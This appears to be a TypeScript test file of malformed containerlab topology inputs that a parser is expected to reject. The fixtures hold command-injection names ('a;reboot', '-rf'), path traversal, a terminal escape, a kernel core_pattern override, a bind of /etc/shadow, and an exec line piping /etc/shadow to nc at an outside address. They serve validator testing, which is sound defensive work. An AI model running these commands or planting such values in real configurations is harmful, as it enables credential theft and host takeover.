import { describeCluster, describeFabric, kindConfig, parseClabTopology, racks } from '@underlay/sdk'
import type { BadInput } from './bad-input.ts'

const cluster = describeCluster(
  kindConfig({ name: 'lab', podSubnet: '10.98.0.0/16', nodes: [{ role: 'control-plane' }] }),
)
const read =
  (nodes: string, rest = '') =>
  (): unknown =>
    parseClabTopology(`name: lab\ntopology:\n  nodes:\n${nodes}${rest}`, { file: 'clab.yaml', context: { cluster } })
const node = (name: string, says = name): Omit<BadInput, 'title'> => ({
  give: () =>
    parseClabTopology(`name: lab\ntopology:\n  nodes:\n    ${JSON.stringify(name)}: {kind: linux}\n`, {
      file: 'clab.yaml',
    }),
  error: 'TopologyError',
  place: 'clab.yaml:4:5',
  says: `'${says}' is not a node name`,
  fix: "use letters, digits, '.', '_', '-'",
})
const linked = (link: string) => read('    a: {kind: linux}\n    b: {kind: linux}\n', `  links:\n  - ${link}\n`)
const device = (name: string, says: string): Omit<BadInput, 'title'> => ({
  give: linked(`endpoints: [${JSON.stringify(`a:${name}`)}, "b:eth1"]`),
  error: 'TopologyError',
  place: 'clab.yaml:7:17 topology.links[0].endpoints[0]',
  says,
})
const mtu = (value: string, says: string): Omit<BadInput, 'title'> => ({
  give: linked(`{endpoints: ["a:e1", "b:e1"], mtu: ${value}}`),
  error: 'TopologyError',
  place: 'topology.links[0].mtu',
  says: `must be an integer from 68 to 65535, is ${says}`,
})

/** Names, commands, files and numbers of a topology. */
export const topologies: readonly BadInput[] = [
  { title: 'a node of two lines', ...node('a\nb', 'a b') },
  { title: 'a node that ends a command', ...node('a;reboot') },
  { title: 'a node that climbs out of a folder', ...node('../x') },
  { title: 'a node that is an option', ...node('-rf') },
  { title: "a node that is JavaScript's own", ...node('__proto__') },
  {
    title: "a lab's name that climbs out of a folder",
    give: () => parseClabTopology('name: "../x"\ntopology: {nodes: {}}\n', { file: 'clab.yaml' }),
    error: 'TopologyError',
    place: 'clab.yaml:1:7 name',
    says: "'../x' is not a lab name",
    fix: "use letters, digits, '.', '_', '-'",
  },
  { title: 'an interface that is an option', ...device('-rf', "'-rf' is not an interface name") },
  { title: 'an interface that is a path', ...device('../x', "'../x' is not an interface name") },
  { title: 'an interface that ends a command', ...device('e;reboot', "'e;reboot' is not an interface name") },
  {
    title: 'an interface that sets the title of the terminal',
    ...device('\u001B]0;x\u0007', "' ]0;x ' is not an interface name"),
  },
  {
    title: 'an interface longer than Linux takes',
    ...device('abcdefghijklmnop', 'has 16 characters; Linux allows 15'),
  },
  { title: 'an MTU without end', ...mtu('.inf', 'Infinity') },
  { title: 'an MTU that is no number', ...mtu('.nan', 'NaN') },
  { title: 'an MTU below zero', ...mtu('-1', '-1') },
  {
    title: 'a pipe of commands',
    give: read('    a: {kind: linux, exec: ["cat /etc/shadow | nc 192.0.2.1 99"]}\n'),
    error: 'TopologyError',
    place: 'clab.yaml:4:29 topology.nodes.a.exec[0]',
    says: 'uses |, but containerlab runs no shell',
    fix: 'write several lines',
  },
  {
    title: "a setting of the whole machine's kernel",
    give: read('    a: {kind: linux, sysctls: {"net/../kernel/core_pattern": "|/tmp/x"}}\n'),
    error: 'TopologyError',
    place: 'topology.nodes.a.sysctls',
    says: 'a namespace has net.* settings of its own, and nothing else',
    fix: 'remove it',
  },
  {
    title: 'a setting of two lines',
    give: read('    a: {kind: linux, sysctls: {"net.ipv4.ip_forward": "1\\n2"}}\n'),
    error: 'TopologyError',
    place: 'topology.nodes.a.sysctls.net.ipv4.ip_forward',
    says: 'must be one line',
  },
  {
    title: 'a bound file that was not given',
    give: () =>
      describeFabric(
        parseClabTopology(
          'name: lab\ntopology:\n  nodes:\n    gw0:\n      kind: vyosnetworks_vyos\n      binds: ["../../etc/shadow:/config/config.boot"]\n',
          { file: 'clab.yaml' },
        ),
        { cluster },
      ),
    error: 'TopologyError',
    place: 'clab.yaml:6:15 topology.nodes.gw0.binds[0]',
    says: "file '../../etc/shadow' is not there",
  },
  {
    title: 'a million racks',
    give: () => racks({ racks: 1_000_000, nodesPerRack: Number.NaN }),
    error: 'TopologyError',
    place: 'racks racks',
    says: 'must be an integer from 1 to 1000, is 1000000',
  },
]
